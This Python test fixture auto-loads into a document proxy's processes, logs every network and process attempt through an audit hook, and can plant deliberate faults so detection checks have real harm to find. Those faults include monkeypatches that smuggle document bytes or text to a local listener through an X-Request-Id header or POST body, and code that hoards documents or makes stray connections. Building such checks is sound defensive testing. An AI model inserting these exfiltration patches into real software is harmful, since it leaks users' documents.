"""Imported by every Python process of a proxy under watch, because its folder comes first on ``PYTHONPATH``.

It writes each attempt to reach out to ``attempts.jsonl`` beside itself: an audit hook (PEP 578) sees every socket and every
start of a program, whichever library is behind it. And it does the harm that ``plant.json`` beside it names, if there is one: a
check that never saw the harm it looks for proves nothing. A copy is put where a test wants both files.
"""

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

FOLDER = Path(__file__).parent
OUTBOUND = {
    "socket.connect",
    "socket.sendto",
    "socket.sendmsg",
    "socket.getaddrinfo",
    "socket.gethostbyname",
    "socket.gethostbyaddr",
    "socket.getnameinfo",
}
PROGRAMS = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "pty.spawn"}

_attempts = os.open(FOLDER / "attempts.jsonl", os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_CLOEXEC, 0o600)


def _watch(event: str, arguments: tuple[Any, ...]) -> None:
    if event in OUTBOUND:
        told = arguments
        if isinstance(arguments[0], socket.SocketType):
            connection, address = arguments[:2]
            if connection.family == socket.AF_UNIX and address is None:
                return  # one end of a pair, which leads nowhere else
            told = (connection.family.name, connection.type, address)
    elif event in PROGRAMS:
        told = arguments[:2]
    else:
        return
    entry = {"pid": os.getpid(), "event": event, "arguments": told}
    os.write(_attempts, json.dumps(entry, default=str).encode() + b"\n")


def _plant() -> None:
    if not (FOLDER / "plant.json").exists():
        return
    plant = json.loads((FOLDER / "plant.json").read_bytes())
    in_engine = "proxy.engine.worker" in sys.orig_argv
    if plant["kind"] in {"header", "body"} and not in_engine:
        _leak(plant["kind"], plant["port"])
    elif plant["kind"] == "text" and not in_engine:
        _leak_text(plant["text"], plant["port"])
    elif plant["kind"] == "hoard" and not in_engine:
        _hoard()
    elif plant["kind"] == "stray" and not in_engine:
        _stray(plant["port"])
    elif plant["kind"] == "engine" and in_engine:
        _stray_engine(plant["port"])


def _wrap(owner: Any, name: str, make: Callable[[Any], Any]) -> None:
    setattr(owner, name, make(getattr(owner, name)))


def _leak(where: str, port: int) -> None:
    """Hand 16 bytes of each large document to whoever listens on ``port``."""
    from aiohttp import ClientSession

    from proxy.spool import SpooledDocument

    stolen = bytearray(16)

    def stealing(write: Any) -> Any:
        def steal(document: Any, data: bytes) -> None:
            write(document, data)
            if document.size > 1_000_000 and len(data) > 116:
                stolen[:] = data[100:116]

        return steal

    def leaking(request: Any) -> Any:
        async def leak(session: Any, method: str, url: Any, **options: Any) -> Any:
            if url.port == port and where == "header":
                options["headers"] = {**options["headers"], "X-Request-Id": stolen.hex()}
            elif url.port == port and method == "POST":
                options["data"] = bytes(options["data"]) + bytes(stolen)
            return await request(session, method, url, **options)

        return leak

    _wrap(SpooledDocument, "write", stealing)
    _wrap(ClientSession, "_request", leaking)


def _leak_text(text: str, port: int) -> None:
    """Hand a text to whoever listens on ``port``, as PDF writes it."""
    from aiohttp import ClientSession

    def leaking(request: Any) -> Any:
        async def leak(session: Any, method: str, url: Any, **options: Any) -> Any:
            if url.port == port:
                options["headers"] = {**options["headers"], "X-Request-Id": text.encode("utf-16-be").hex()}
            return await request(session, method, url, **options)

        return leak

    _wrap(ClientSession, "_request", leaking)


def _hoard() -> None:
    """Keep every document in memory."""
    from proxy.spool import SpooledDocument

    kept = bytearray()

    def hoarding(write: Any) -> Any:
        def hoard(document: Any, data: bytes) -> None:
            write(document, data)
            kept.extend(data)

        return hoard

    _wrap(SpooledDocument, "write", hoarding)


def _stray(port: int) -> None:
    """Reach out in every way, once a document."""
    from proxy.spool import SpooledDocument

    def straying(close: Any) -> Any:
        def stray(document: Any) -> None:
            close(document)
            _reach_out(port)

        return stray

    _wrap(SpooledDocument, "close", straying)


def _stray_engine(port: int) -> None:
    """The same where documents are parsed."""
    from proxy.pades import tasks

    def straying(task: Any) -> Any:
        def stray(stream: Any, argument: Any) -> Any:
            if not (FOLDER / "outcomes.json").exists():
                (FOLDER / "outcomes.json").write_text(json.dumps(_reach_out(port)))
            return task(stream, argument)

        return stray

    _wrap(tasks, "TASKS", lambda known: {name: straying(task) for name, task in known.items()})


def _reach_out(port: int) -> dict[str, str]:
    """What became of each way: the exception's name, or that it worked."""

    def connect() -> None:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            out.sendto(b"x", ("127.0.0.1", port))

    def resolve() -> None:
        socket.getaddrinfo("localhost", port)

    def run() -> None:
        subprocess.run(["/bin/true"], check=True)

    outcomes = {}
    for way in (connect, send, resolve, run):
        try:
            way()
        except OSError as error:
            outcomes[way.__name__] = type(error).__name__
        else:
            outcomes[way.__name__] = "worked"
    return outcomes


# The step that binds a service to the life of its test becomes that service: it is not yet under watch.
if "proxy.sandbox.bound" not in sys.orig_argv:
    sys.addaudithook(_watch)
    _plant()
